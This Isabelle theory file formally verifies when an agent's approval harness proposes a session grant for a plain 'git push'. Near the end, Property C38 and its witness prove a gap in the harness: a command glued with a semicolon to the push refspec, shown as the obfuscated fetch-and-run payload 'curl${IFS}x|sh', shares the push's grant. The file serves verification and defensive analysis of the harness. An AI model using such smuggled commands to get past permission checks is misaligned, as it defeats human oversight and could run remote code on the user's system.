(* ===== verification/Publication_Properties.thy ===== *)
theory Publication_Properties
  imports Publication_Grants
begin

text \<open>
  Session grants against a grammar (\<open>harness/approval/proposals.py\<close>): the token loops accept exactly the
  lines of a plain push, and a command glued to the last word of a shell script does not change the
  proposal.
\<close>

section \<open>The grammar of a push\<close>

text \<open>Options between \<open>git\<close> and \<open>push\<close>, with the directories they change to.\<close>

inductive git_prefix :: "string list \<Rightarrow> string list \<Rightarrow> bool" where
  prefix_end: "git_prefix [] []"
| prefix_flag: "v \<in> {''--bare'', ''--literal-pathspecs'', ''--no-optional-locks'', ''--no-pager''} \<Longrightarrow>
    git_prefix gs ds \<Longrightarrow> git_prefix (v # gs) ds"
| prefix_directory: "before_char CHR ''='' v = ''-C'' \<Longrightarrow> after_char CHR ''='' v = [] \<Longrightarrow>
    git_prefix gs ds \<Longrightarrow> git_prefix (v # d # gs) (d # ds)"
| prefix_attached: "before_char CHR ''='' v = ''-C'' \<Longrightarrow> after_char CHR ''='' v \<noteq> [] \<Longrightarrow>
    git_prefix gs ds \<Longrightarrow> git_prefix (v # gs) (after_char CHR ''='' v # ds)"

text \<open>A \<open>git push\<close> after any wrappers: its directories and its arguments.\<close>

inductive git_line :: "string list \<Rightarrow> string list \<Rightarrow> string list \<Rightarrow> bool" where
  line_program: "base_name program \<notin> {''command'', ''exec'', ''nohup''} \<Longrightarrow>
    ascii_lower (base_name program) \<in> {''git'', ''git.exe''} \<Longrightarrow> git_prefix gs ds \<Longrightarrow>
    git_line (program # gs @ ''push'' # args) ds args"
| line_wrapper: "base_name w \<in> {''command'', ''exec'', ''nohup''} \<Longrightarrow> git_line ts ds args \<Longrightarrow> git_line (w # ts) ds args"

text \<open>The arguments of a push: cosmetic options, and operands.\<close>

inductive push_line :: "string list \<Rightarrow> string list \<Rightarrow> bool" where
  push_end: "push_line [] []"
| push_rest: "push_line (''--'' # operands) operands"
| push_option: "starts_with v ''-'' \<Longrightarrow> before_char CHR ''='' v \<in> set push_ignored_options \<Longrightarrow> \<not> unsafe_push_option v \<Longrightarrow>
    push_line vs operands \<Longrightarrow> push_line (v # vs) operands"
| push_operand: "\<not> starts_with v ''-'' \<Longrightarrow> push_line vs operands \<Longrightarrow> push_line (v # vs) (v # operands)"

section \<open>The loops accept the grammar\<close>

lemma git_globals_sound: "git_globals dirs vs = Some (dirs', rest) \<Longrightarrow>
    \<exists>gs ds. vs = gs @ ''push'' # rest \<and> git_prefix gs ds \<and> dirs' = dirs @ ds"
proof (induction dirs vs arbitrary: dirs' rest rule: git_globals.induct)
  case (1 dirs)
  then show ?case by simp
next
  case (2 dirs v vs)
  let ?o = "before_char CHR ''='' v" and ?a = "after_char CHR ''='' v"
  show ?case
  proof (cases "?o \<in> set git_global_value_options")
    case option_word: True
    show ?thesis
    proof (cases "?a = []")
      case False
      then have dir: "?o = ''-C''" "git_globals (dirs @ [?a]) vs = Some (dirs', rest)"
        using 2(4) option_word by (auto simp: Let_def split: if_splits)
      then obtain gs ds where "vs = gs @ ''push'' # rest" "git_prefix gs ds" "dirs' = (dirs @ [?a]) @ ds"
        using 2(1) [OF refl option_word False] by blast
      then show ?thesis using prefix_attached [OF dir(1) False] by (intro exI [of _ "v # gs"] exI [of _ "?a # ds"]) simp
    next
      case True
      then obtain d vs' where vs: "vs = d # vs'" using 2(4) option_word by (cases vs) (auto simp: Let_def)
      then have dir: "?o = ''-C''" "git_globals (dirs @ [d]) vs' = Some (dirs', rest)"
        using 2(4) option_word True by (auto simp: Let_def split: if_splits)
      then obtain gs ds where "vs' = gs @ ''push'' # rest" "git_prefix gs ds" "dirs' = (dirs @ [d]) @ ds"
        using 2(2) [OF refl option_word _ vs] True by blast
      then show ?thesis using prefix_directory [OF dir(1) True] vs by (intro exI [of _ "v # d # gs"] exI [of _ "d # ds"]) simp
    qed
  next
    case plain_word: False
    show ?thesis
    proof (cases "starts_with v ''-''")
      case True
      then have flag: "v \<in> {''--bare'', ''--literal-pathspecs'', ''--no-optional-locks'', ''--no-pager''}"
        "git_globals dirs vs = Some (dirs', rest)"
        using 2(4) plain_word by (auto simp: Let_def split: if_splits)
      then obtain gs ds where "vs = gs @ ''push'' # rest" "git_prefix gs ds" "dirs' = dirs @ ds"
        using 2(3) [OF refl plain_word True] by blast
      then show ?thesis using prefix_flag [OF flag(1)] by (intro exI [of _ "v # gs"] exI [of _ ds]) simp
    next
      case False
      then have "v = ''push''" "dirs' = dirs" "rest = vs" using 2(4) plain_word by (auto simp: Let_def split: if_splits)
      then show ?thesis using prefix_end by (intro exI [of _ "[]"]) simp
    qed
  qed
qed

lemma flag_words:
  "v \<in> {''--bare'', ''--literal-pathspecs'', ''--no-optional-locks'', ''--no-pager''} \<Longrightarrow>
   starts_with v ''-'' \<and> before_char CHR ''='' v \<notin> set git_global_value_options"
  by (auto simp: starts_with_def before_char_def git_global_value_options_def)

lemma directory_option [simp]: "''-C'' \<in> set git_global_value_options"
  by (simp add: git_global_value_options_def)

lemma git_globals_complete: "git_prefix gs ds \<Longrightarrow> git_globals dirs (gs @ ''push'' # rest) = Some (dirs @ ds, rest)"
proof (induction arbitrary: dirs rule: git_prefix.induct)
  case prefix_end
  then show ?case by (simp add: before_char_def git_global_value_options_def starts_with_def)
next
  case (prefix_flag v gs ds)
  then show ?case using flag_words [OF prefix_flag(1)] by (simp add: Let_def)
qed (simp_all add: Let_def)

lemma git_globals_iff: "git_globals [] vs = Some (ds, rest) \<longleftrightarrow> (\<exists>gs. vs = gs @ ''push'' # rest \<and> git_prefix gs ds)"
  using git_globals_sound [of "[]" vs ds rest] git_globals_complete [of _ ds "[]" rest] by auto

lemma before_char_starts: "before_char c v = a # b \<Longrightarrow> \<exists>v'. v = a # v'"
  by (cases v) (auto simp: before_char_def split: if_splits)

lemma dashed_options:
  assumes "before_char CHR ''='' v \<in> set push_unsafe_options \<union> set push_dry_run_options \<union> set push_value_options"
  shows "starts_with v ''-''"
  using assms before_char_starts [of "CHR ''=''" v]
  by (auto simp: push_unsafe_options_def push_dry_run_options_def push_value_options_def starts_with_def)

lemma operand_word:
  assumes "\<not> starts_with v ''-''"
  shows "\<not> unsafe_push_option v" "before_char CHR ''='' v \<notin> set push_dry_run_options"
    "before_char CHR ''='' v \<notin> set push_value_options" "v \<noteq> ''--''"
  using assms dashed_options [of v] by (auto simp: unsafe_push_option_def starts_with_def)

lemma ignored_word:
  assumes "before_char CHR ''='' v \<in> set push_ignored_options"
  shows "before_char CHR ''='' v \<notin> set push_dry_run_options" "before_char CHR ''='' v \<notin> set push_value_options" "v \<noteq> ''--''"
  using assms by (auto simp: push_ignored_options_def push_dry_run_options_def push_value_options_def before_char_def)

lemma rest_word: "before_char CHR ''='' ''--'' \<notin> set push_dry_run_options"
  "before_char CHR ''='' ''--'' \<notin> set push_value_options" "\<not> unsafe_push_option ''--''"
  by (simp_all add: before_char_def push_dry_run_options_def push_value_options_def unsafe_push_option_def
      push_unsafe_options_def starts_with_def)

lemma push_operands_sound: "push_operands unsafe vs = Some (False, operands) \<Longrightarrow> \<not> unsafe \<and> push_line vs operands"
proof (induction unsafe vs arbitrary: operands rule: push_operands.induct)
  case (1 unsafe)
  then show ?case using push_end by simp
next
  case (2 unsafe v vs)
  let ?o = "before_char CHR ''='' v"
  have plain: "?o \<notin> set push_dry_run_options" "?o \<notin> set push_value_options"
    using 2(3) by (auto simp: Let_def split: if_splits)
  show ?case
  proof (cases "v = ''--''")
    case True
    then show ?thesis using 2(3) plain push_rest by (auto simp: Let_def)
  next
    case word: False
    show ?thesis
    proof (cases "starts_with v ''-''")
      case True
      then have known: "?o \<in> set push_ignored_options" "push_operands (unsafe \<or> unsafe_push_option v) vs = Some (False, operands)"
        using 2(3) plain word by (auto simp: Let_def split: if_splits)
      then show ?thesis using 2(1) [OF refl refl plain word True] push_option [OF True known(1)] by blast
    next
      case False
      then obtain ops where ops: "push_operands (unsafe \<or> unsafe_push_option v) vs = Some (False, ops)" "operands = v # ops"
        using 2(3) plain word by (auto simp: Let_def)
      then show ?thesis using 2(2) [OF refl refl plain word False ops(1)] push_operand [OF False] by blast
    qed
  qed
qed

lemma push_operands_complete: "push_line vs operands \<Longrightarrow> push_operands False vs = Some (False, operands)"
proof (induction rule: push_line.induct)
  case push_end
  then show ?case by simp
next
  case (push_rest operands)
  then show ?case using rest_word by (simp add: Let_def)
next
  case (push_option v vs operands)
  then show ?case using ignored_word [OF push_option(2)] by (simp add: Let_def)
next
  case (push_operand v vs operands)
  then show ?case using operand_word [OF push_operand(1)] by (simp add: Let_def)
qed

lemma push_operands_iff: "push_operands False vs = Some (False, operands) \<longleftrightarrow> push_line vs operands"
  using push_operands_sound push_operands_complete by blast

lemma git_line_skips: "git_line ts ds args \<longleftrightarrow>
    (\<exists>program arguments. skip_wrappers ts = program # arguments \<and> ascii_lower (base_name program) \<in> {''git'', ''git.exe''} \<and>
      git_globals [] arguments = Some (ds, args))"
proof (induction ts)
  case Nil
  then show ?case by (auto simp: skip_wrappers_def elim: git_line.cases)
next
  case (Cons t ts)
  show ?case
  proof (cases "base_name t \<in> {''command'', ''exec'', ''nohup''}")
    case True
    then have "git_line (t # ts) ds args \<longleftrightarrow> git_line ts ds args"
      by (auto intro: line_wrapper elim: git_line.cases)
    moreover have "skip_wrappers (t # ts) = skip_wrappers ts" using True by (simp add: skip_wrappers_def)
    ultimately show ?thesis using Cons by simp
  next
    case False
    then have "skip_wrappers (t # ts) = t # ts" by (simp add: skip_wrappers_def)
    moreover have "git_line (t # ts) ds args \<longleftrightarrow>
        ascii_lower (base_name t) \<in> {''git'', ''git.exe''} \<and> (\<exists>gs. ts = gs @ ''push'' # args \<and> git_prefix gs ds)"
      using False by (auto intro: line_program elim: git_line.cases)
    ultimately show ?thesis by (simp add: git_globals_iff)
  qed
qed

section \<open>Proposals\<close>

definition publication_grant :: "string \<Rightarrow> string \<Rightarrow> grant_proposal" where
  "publication_grant repository remote = \<lparr>gp_capability = ''git.publish_refs'',
     gp_constraints = [(''force'', ''false''), (''remote'', remote), (''repository'', repository)],
     gp_summary = ''Publish non-force refs to '' @ remote @ '' from this repository''\<rparr>"

lemma sort_constraints:
  "sort [(''repository'', x), (''remote'', y), (''force'', z :: string)] = [(''force'', z), (''remote'', y), (''repository'', x)]"
  by simp

definition plain_push :: "string list \<Rightarrow> string list \<Rightarrow> string \<Rightarrow> bool" where
  "plain_push tokens ds remote \<longleftrightarrow>
     (\<exists>args refspecs. git_line tokens ds args \<and> push_line args (remote # refspecs) \<and> remote \<noteq> [] \<and> \<not> names_credentials remote \<and>
        refspecs \<noteq> [] \<and> (\<forall>r \<in> set refspecs. r \<noteq> [] \<and> \<not> starts_with r ''+'' \<and> \<not> starts_with r '':''))"

lemma git_push_proposal_iff:
  "git_push_proposal repository_ref tokens cwd = Inr (Some p) \<longleftrightarrow>
     (\<exists>ds remote. plain_push tokens ds remote \<and> repository_ref cwd ds \<noteq> [] \<and> p = publication_grant (repository_ref cwd ds) remote)"
  (is "?proposed \<longleftrightarrow> ?plain")
proof
  assume proposed: ?proposed
  then obtain program arguments where program: "skip_wrappers tokens = program # arguments"
    "ascii_lower (base_name program) \<in> {''git'', ''git.exe''}"
    by (auto simp: git_push_proposal_def split: list.splits if_splits)
  with proposed obtain ds rest where rest: "git_globals [] arguments = Some (ds, rest)"
    by (auto simp: git_push_proposal_def split: option.splits)
  with proposed program obtain operands where operands: "push_operands False rest = Some (False, operands)" "\<not> length operands < 2"
    by (auto simp: git_push_proposal_def split: option.splits if_splits)
  then obtain remote refspecs where ops: "operands = remote # refspecs" "refspecs \<noteq> []"
    by (cases operands) (auto simp: Suc_le_eq)
  have "remote \<noteq> [] \<and> (\<forall>r \<in> set refspecs. r \<noteq> [] \<and> \<not> unsafe_refspec r) \<and> \<not> names_credentials remote \<and>
      repository_ref cwd ds \<noteq> [] \<and> p = publication_grant (repository_ref cwd ds) remote"
    using proposed program rest operands unfolding ops(1)
    by (auto simp: git_push_proposal_def Let_def list_ex_iff rbind_Inr_iff make_proposal_def sort_constraints publication_grant_def
        split: if_splits)
  moreover have "git_line tokens ds rest" unfolding git_line_skips using program rest by blast
  moreover have "push_line rest (remote # refspecs)" using operands(1) unfolding ops(1) push_operands_iff .
  ultimately show ?plain using ops(2) unfolding plain_push_def unsafe_refspec_def by blast
next
  assume ?plain
  then obtain ds remote args refspecs where line: "git_line tokens ds args" "push_line args (remote # refspecs)"
    and words: "remote \<noteq> []" "\<not> names_credentials remote" "refspecs \<noteq> []"
      "\<forall>r \<in> set refspecs. r \<noteq> [] \<and> \<not> starts_with r ''+'' \<and> \<not> starts_with r '':''"
    and ref: "repository_ref cwd ds \<noteq> []" "p = publication_grant (repository_ref cwd ds) remote"
    unfolding plain_push_def by blast
  obtain program arguments where program: "skip_wrappers tokens = program # arguments"
    "ascii_lower (base_name program) \<in> {''git'', ''git.exe''}" "git_globals [] arguments = Some (ds, args)"
    using line(1) unfolding git_line_skips by blast
  have "\<not> Suc (length refspecs) < 2" using words(3) by (cases refspecs) auto
  moreover have "\<not> list_ex (\<lambda>r. r = []) refspecs" "\<not> list_ex unsafe_refspec refspecs"
    using words(4) by (auto simp: list_ex_iff unsafe_refspec_def)
  ultimately show ?proposed
    using program line(2) words(1,2) ref unfolding push_operands_iff [symmetric]
    by (simp add: git_push_proposal_def Let_def make_proposal_def sort_constraints publication_grant_def)
qed

lemma session_grant_iff:
  "propose_session_grant repository_ref t policy_code = Inr (Some p) \<longleftrightarrow>
     policy_code = Some ''external_publication'' \<and>
     (tp_capability_id t = Some ''workspace.command'' \<or> tp_capability_id t = None \<and> tp_tool_name t = ''bash'') \<and>
     (\<exists>c ds remote. tp_command t = Some c \<and> cp_normalization_complete c \<and>
        plain_push (simple_command_tokens c) ds remote \<and> repository_ref (tp_cwd t) ds \<noteq> [] \<and>
        p = publication_grant (repository_ref (tp_cwd t) ds) remote)"
proof -
  have "\<not> plain_push [] ds remote" for ds remote
    by (auto simp: plain_push_def git_line_skips skip_wrappers_def)
  then show ?thesis
    by (cases "tp_command t") (auto simp: propose_session_grant_def Let_def git_push_proposal_iff)
qed

text \<open>
  Property C37. A session grant is proposed exactly for a plain push: the policy saw an external
  publication, the workspace command was understood whole, and its words are a \<open>git push\<close> behind
  harmless options, with cosmetic options only, to a named remote without credentials, of refspecs that
  neither force nor delete. The grant is for that repository and that remote.
\<close>

theorem session_grant_is_plain_push:
  "propose_session_grant repository_ref t policy_code = Inr (Some p) \<longleftrightarrow>
     policy_code = Some ''external_publication'' \<and>
     (tp_capability_id t = Some ''workspace.command'' \<or> tp_capability_id t = None \<and> tp_tool_name t = ''bash'') \<and>
     (\<exists>c ds remote. tp_command t = Some c \<and> cp_normalization_complete c \<and>
        plain_push (simple_command_tokens c) ds remote \<and> repository_ref (tp_cwd t) ds \<noteq> [] \<and>
        p = publication_grant (repository_ref (tp_cwd t) ds) remote)"
  by (rule session_grant_iff)

definition push_script :: "string \<Rightarrow> string \<Rightarrow> string" where
  "push_script remote refspec = ''git push '' @ remote @ '' '' @ refspec"

definition shell_tool :: "string \<Rightarrow> tool_subject" where
  "shell_tool script = \<lparr>tp_tool_name = ''bash'', tp_cwd = Some ''/repo'',
     tp_command = Some \<lparr>cp_command = [''/bin/sh'', ''-lc'', script], cp_cwd = Some ''/repo'', cp_direct_tokens = [],
       cp_shell_payload = Some script, cp_normalization_complete = True, cp_dialect = Posix, cp_shell_flavor = None\<rparr>,
     tp_paths = [], tp_capability_id = None\<rparr>"

theorem session_grant_is_plain_push_witness:
  "\<exists>ds remote. plain_push (simple_command_tokens (the (tp_command (shell_tool ''git -C sub push -q origin main'')))) ds remote \<and>
     ds = [''sub''] \<and> remote = ''origin''"
proof -
  let ?t = "shell_tool ''git -C sub push -q origin main''"
  have "propose_session_grant (\<lambda>_. concat) ?t (Some ''external_publication'') = Inr (Some (publication_grant ''sub'' ''origin''))"
    by code_simp
  then obtain ds remote where found: "plain_push (simple_command_tokens (the (tp_command ?t))) ds remote"
    "publication_grant ''sub'' ''origin'' = publication_grant (concat ds) remote"
    using session_grant_is_plain_push [of "\<lambda>_. concat" ?t "Some ''external_publication''" "publication_grant ''sub'' ''origin''"]
    by (auto simp: shell_tool_def)
  have "git_globals [] [''-C'', ''sub'', ''push'', ''-q'', ''origin'', ''main''] = Some (ds, args) \<Longrightarrow> ds = [''sub'']" for args
    by (simp add: before_char_def after_char_def git_global_value_options_def starts_with_def)
  moreover have "simple_command_tokens (the (tp_command ?t)) = [''git'', ''-C'', ''sub'', ''push'', ''-q'', ''origin'', ''main'']"
    by code_simp
  ultimately have "ds = [''sub'']"
    using found(1) by (auto simp: plain_push_def git_line_skips skip_wrappers_def base_name_def)
  then show ?thesis using found by (auto simp: publication_grant_def)
qed

section \<open>Commands glued to a word\<close>

definition plain_char :: "char \<Rightarrow> bool" where
  "plain_char c \<longleftrightarrow> \<not> lex_space c \<and> \<not> lex_quote c \<and> c \<noteq> lex_backslash"

lemma shell_words_plain:
  "list_all plain_char w \<Longrightarrow> shell_words In_Word quoted word (w @ rest) = shell_words In_Word quoted (word @ w) rest"
  by (induction w arbitrary: word) (simp_all add: plain_char_def)

lemma shell_words_start:
  "list_all plain_char w \<Longrightarrow> w \<noteq> [] \<Longrightarrow> shell_words Between False [] (w @ rest) = shell_words In_Word False w rest"
  using shell_words_plain [of "tl w" False "[hd w]" rest] by (cases w) (simp_all add: plain_char_def)

lemma shell_words_space: "word \<noteq> [] \<Longrightarrow>
    shell_words In_Word quoted word ('' '' @ rest) = map_option ((#) word) (shell_words Between False [] rest)"
  by (simp add: lex_space_def code_def)

lemma shlex_push_script:
  assumes "list_all plain_char remote" "remote \<noteq> []" and "list_all plain_char refspec" "refspec \<noteq> []"
  shows "shlex_split (push_script remote refspec) = Some [''git'', ''push'', remote, refspec]"
proof -
  have plain: "list_all plain_char ''git''" "list_all plain_char ''push''"
    by (simp_all add: plain_char_def lex_space_def lex_quote_def lex_backslash_def lex_double_quote_def lex_single_quote_def code_def)
  have "shell_words Between False [] (refspec @ []) = Some [refspec]"
    unfolding shell_words_start [OF assms(3,4)] using assms(4) by simp
  then have last: "shell_words Between False [] refspec = Some [refspec]" by simp
  have "push_script remote refspec = ''git'' @ '' '' @ ''push'' @ '' '' @ remote @ '' '' @ refspec" by (simp add: push_script_def)
  then show ?thesis
    unfolding shlex_split_def
    by (simp only: shell_words_start [OF plain(1)] shell_words_start [OF plain(2)] shell_words_start [OF assms(1,2)]
        shell_words_space assms(2) last option.map list.distinct simp_thms)
qed

lemma plain_push_script:
  assumes "list_all plain_char remote" "remote \<noteq> []" "\<not> starts_with remote ''-''" "\<not> names_credentials remote" "remote \<notin> set shell_control"
    and "list_all plain_char refspec" "refspec \<noteq> []" "\<not> starts_with refspec ''-''" "\<not> starts_with refspec ''+''" "\<not> starts_with refspec '':''"
      "refspec \<notin> set shell_control"
  shows "plain_push (simple_command_tokens (the (tp_command (shell_tool (push_script remote refspec))))) [] remote"
proof -
  have "simple_command_tokens (the (tp_command (shell_tool (push_script remote refspec)))) = [''git'', ''push'', remote, refspec]"
    using shlex_push_script [OF assms(1,2,6,7)] assms(5,11) by (simp add: simple_command_tokens_def shell_tool_def shell_control_def)
  moreover have "git_line (''git'' # [] @ ''push'' # [remote, refspec]) [] [remote, refspec]"
    by (rule line_program) (simp_all add: prefix_end base_name_def ascii_lower_def code_def)
  moreover have "push_line [remote, refspec] [remote, refspec]"
    using assms(3,8) by (intro push_operand push_end)
  ultimately show ?thesis using assms(2,4,7,9,10) unfolding plain_push_def by (intro exI [of _ "[remote, refspec]"] exI [of _ "[refspec]"]) simp
qed

lemma issued_grant_found:
  "aq_session_grant q = Some p \<Longrightarrow> issue_grant fresh q s = Inr (grant, s') \<Longrightarrow>
   aq_actor_id q' = aq_actor_id q \<Longrightarrow> aq_session_grant q' = Some p \<Longrightarrow> find_grant q' s' = Some grant"
  by (auto simp: issue_grant_def find_grant_def Let_def split: option.splits)

text \<open>
  Property C38. A command glued to the last word of a script with a semicolon is a word of the script for
  the proposal and a second command for the shell: the script with it is offered the grant of the push
  alone, so once that push is granted for the session, the glued command is covered as well.
\<close>

theorem glued_command_shares_grant:
  assumes "list_all plain_char remote" "remote \<noteq> []" "\<not> starts_with remote ''-''" "\<not> names_credentials remote" "remote \<notin> set shell_control"
    and "list_all plain_char refspec" "refspec \<noteq> []" "\<not> starts_with refspec ''-''" "\<not> starts_with refspec ''+''" "\<not> starts_with refspec '':''"
      "refspec \<notin> set shell_control"
    and "list_all plain_char command" and "repository_ref (Some ''/repo'') [] \<noteq> []"
  shows "\<exists>p. propose_session_grant repository_ref (shell_tool (push_script remote refspec)) (Some ''external_publication'') = Inr (Some p) \<and>
    propose_session_grant repository_ref (shell_tool (push_script remote refspec @ '';'' @ command)) (Some ''external_publication'') = Inr (Some p) \<and>
    (\<forall>q s fresh grant s'. aq_session_grant q = Some p \<longrightarrow> issue_grant fresh q s = Inr (grant, s') \<longrightarrow>
       (\<forall>q'. aq_actor_id q' = aq_actor_id q \<longrightarrow> propose_session_grant repository_ref (shell_tool (push_script remote refspec @ '';'' @ command))
          (Some ''external_publication'') = Inr (aq_session_grant q') \<longrightarrow> find_grant q' s' = Some grant))"
proof -
  let ?p = "publication_grant (repository_ref (Some ''/repo'') []) remote"
  have offered: "propose_session_grant repository_ref (shell_tool (push_script remote r)) (Some ''external_publication'') = Inr (Some ?p)"
    if "plain_push (simple_command_tokens (the (tp_command (shell_tool (push_script remote r))))) [] remote" for r
    unfolding session_grant_iff using that assms(13) by (auto simp: shell_tool_def)
  have script: "push_script remote refspec @ '';'' @ command = push_script remote (refspec @ '';'' @ command)"
    by (simp add: push_script_def)
  have semicolon: "plain_char CHR '';''"
    by (simp add: plain_char_def lex_space_def lex_quote_def lex_backslash_def lex_double_quote_def lex_single_quote_def code_def)
  have same: "starts_with (refspec @ rest) [c] \<longleftrightarrow> starts_with refspec [c]" for rest c
    using assms(7) by (cases refspec) (simp_all add: starts_with_def)
  have "refspec @ '';'' @ command \<notin> set shell_control"
    using assms(7) by (cases refspec; cases "tl refspec"; cases "tl (tl refspec)") (auto simp: shell_control_def)
  then have "plain_push (simple_command_tokens (the (tp_command (shell_tool (push_script remote (refspec @ '';'' @ command)))))) [] remote"
    using assms semicolon by (intro plain_push_script) (simp_all only: same list_all_append list.pred_inject append_is_Nil_conv simp_thms)
  then have glued: "propose_session_grant repository_ref (shell_tool (push_script remote refspec @ '';'' @ command))
      (Some ''external_publication'') = Inr (Some ?p)"
    unfolding script by (rule offered)
  have "aq_session_grant q' = Some ?p"
    if "propose_session_grant repository_ref (shell_tool (push_script remote refspec @ '';'' @ command))
      (Some ''external_publication'') = Inr (aq_session_grant q')" for q' :: "'b approval_request"
    using that unfolding glued by simp
  then show ?thesis
    by (intro exI [of _ ?p] conjI allI impI offered [OF plain_push_script [OF assms(1-11)]] glued) (rule issued_grant_found)
qed

theorem glued_command_shares_grant_witness:
  "\<exists>p. propose_session_grant (\<lambda>_ _. ''/repo'') (shell_tool (push_script ''origin'' ''main'')) (Some ''external_publication'') = Inr (Some p) \<and>
     propose_session_grant (\<lambda>_ _. ''/repo'') (shell_tool (push_script ''origin'' ''main'' @ '';'' @ ''curl${IFS}x|sh''))
       (Some ''external_publication'') = Inr (Some p)"
proof -
  have "\<exists>p. propose_session_grant (\<lambda>_ _. ''/repo'') (shell_tool (push_script ''origin'' ''main'')) (Some ''external_publication'') = Inr (Some p) \<and>
      propose_session_grant (\<lambda>_ _. ''/repo'') (shell_tool (push_script ''origin'' ''main'' @ '';'' @ ''curl${IFS}x|sh''))
        (Some ''external_publication'') = Inr (Some p) \<and> (\<forall>q s fresh grant s'. aq_session_grant (q :: unit approval_request) = Some p \<longrightarrow>
      issue_grant fresh q s = Inr (grant, s') \<longrightarrow>
       (\<forall>q'. aq_actor_id (q' :: unit approval_request) = aq_actor_id q \<longrightarrow> propose_session_grant (\<lambda>_ _. ''/repo'')
         (shell_tool (push_script ''origin'' ''main'' @ '';'' @ ''curl${IFS}x|sh'')) (Some ''external_publication'') = Inr (aq_session_grant q') \<longrightarrow>
         find_grant q' s' = Some grant))"
    by (rule glued_command_shares_grant)
      (simp_all add: plain_char_def lex_space_def lex_quote_def lex_backslash_def lex_double_quote_def lex_single_quote_def code_def
        starts_with_def names_credentials_def shell_control_def)
  then show ?thesis by blast
qed

end
